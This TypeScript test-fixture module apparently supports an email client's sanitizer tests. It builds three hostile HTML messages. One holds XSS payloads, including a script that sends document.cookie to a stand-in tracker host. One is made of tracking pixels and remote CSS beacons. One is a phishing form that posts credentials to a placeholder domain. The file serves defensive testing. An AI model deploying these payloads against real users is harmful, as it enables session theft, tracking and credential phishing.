import type { Clock } from './clock.ts';
import { TZ } from './clock.ts';
import type { MailSpec } from './compose.ts';
import { FOLDER } from './folders.ts';
import { multipart, textPart } from './mime.ts';
import { ME } from './people.ts';

// Hostile HTML for the sanitizer and the sandboxed renderer: script in every disguise, event handlers,
// javascript: URLs, tracking pixels, remote CSS, forms and refresh tricks. Every remote host is under the
// reserved .example TLD (RFC 2606), so nothing can load even if a sanitizer fails.

const SCRIPT_HTML = `<html><head>
<script>document.location='http://tracker.example/steal?c='+document.cookie</script>
<script src="http://tracker.example/evil.js"></script>
</head><body onload="alert('onload')">
<p>Your parcel is waiting. Confirm delivery below.</p>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">Confirm delivery</a>
<a href=" jav&#x09;ascript:alert('entity-split')">Track parcel</a>
<a href="JaVaScRiPt:alert('case')">Reschedule</a>
<div onmouseover="alert('hover')" style="width:100%;height:200px">Hover here</div>
<svg><script>alert('svg')</script><a xlink:href="javascript:alert('svg-link')"><text y="20">svg link</text></a></svg>
<iframe src="javascript:alert('iframe')"></iframe>
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">x</p></noscript>
<details open ontoggle="alert('toggle')"><summary>Details</summary></details>
<form><button formaction="javascript:alert('formaction')">Pay customs fee</button></form>
</body></html>`;

const TRACKING_HTML = `<html><head>
<style>
  @import url("http://tracker.example/import.css");
  body { background-image: url(http://tracker.example/bg.png?u=demo); }
  .logo { background: url('//tracker.example/logo.png') no-repeat; }
  @font-face { font-family: Spy; src: url(https://tracker.example/font.woff2?u=demo); }
</style>
<link rel="stylesheet" href="http://tracker.example/styles.css?u=demo">
</head><body>
<p class="logo" style="background:url(http://tracker.example/inline-bg.gif?u=demo)">Monthly statement ready</p>
<p>Your monthly statement is ready to view.</p>
<img src="http://tracker.example/pixel.gif?u=demo&amp;m=statement" width="1" height="1" alt="" style="display:none">
<img src="https://tracker.example/p.png" srcset="https://tracker.example/p2.png 2x">
<picture><source srcset="https://tracker.example/source.webp"><img src="https://tracker.example/fallback.jpg" alt="banner"></picture>
<table background="http://tracker.example/table-bg.jpg"><tr><td>Balance: 1,234.56 EUR</td></tr></table>
<video poster="http://tracker.example/poster.jpg"></video>
<audio src="http://tracker.example/beacon.mp3"></audio>
<input type="image" src="http://tracker.example/input.png">
<object data="http://tracker.example/object.swf"></object>
<embed src="http://tracker.example/embed.swf">
</body></html>`;

const PHISHING_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=http://phish.example/login">
<base href="http://phish.example/">
</head><body>
<p>Unusual sign-in activity was detected on your account.</p>
<p>Verify at <a href="http://phish.example/bank-login">https://bank.example/secure</a> within 24 hours.</p>
<form action="http://phish.example/collect" method="post">
  <input name="user" placeholder="Account number"><input name="pass" type="password" placeholder="Password">
  <button type="submit">Verify account</button>
</form>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">Open secure document</a>
<a href="relative/path">Relative link resolved against the base element</a>
</body></html>`;

const ATTACKER = { name: 'Parcel Service', address: 'notify@parcel-delivery.example' };
const BANK = { name: 'Online Banking', address: 'security@bank-alerts.example' };

export function hostileMessages(clock: Clock): MailSpec[] {
  return [
    {
      id: 'hostile-script',
      folder: FOLDER.inbox,
      flags: ['$Phishing'],
      date: clock.daysAgo(1, 3, 17, TZ.utc),
      from: ATTACKER,
      to: [ME],
      subject: 'Delivery failed: confirm your address',
      body: multipart('alternative', [
        textPart('Your parcel is waiting. Confirm delivery: http://parcel-delivery.example/confirm'),
        textPart(SCRIPT_HTML, { subtype: 'html', encoding: 'quoted-printable' }),
      ]),
      text: ['Your parcel is waiting'],
    },
    {
      id: 'hostile-tracking',
      folder: FOLDER.inbox,
      flags: ['\\Seen'],
      date: clock.daysAgo(13, 6, 0, TZ.berlin),
      tz: TZ.berlin,
      from: BANK,
      to: [ME],
      subject: 'Your monthly statement is ready',
      body: textPart(TRACKING_HTML, { subtype: 'html', encoding: 'quoted-printable' }),
      text: ['Your monthly statement is ready to view'],
    },
    {
      id: 'hostile-phishing-form',
      folder: FOLDER.junk,
      flags: ['Junk', '$Junk', '$Phishing'],
      date: clock.daysAgo(16, 2, 44, TZ.utc),
      from: BANK,
      replyTo: { name: 'Support', address: 'support@phish.example' },
      to: [ME],
      subject: 'Action required: unusual sign-in activity',
      body: textPart(PHISHING_HTML, { subtype: 'html', encoding: 'base64' }),
      text: ['Unusual sign-in activity was detected'],
    },
  ];
}
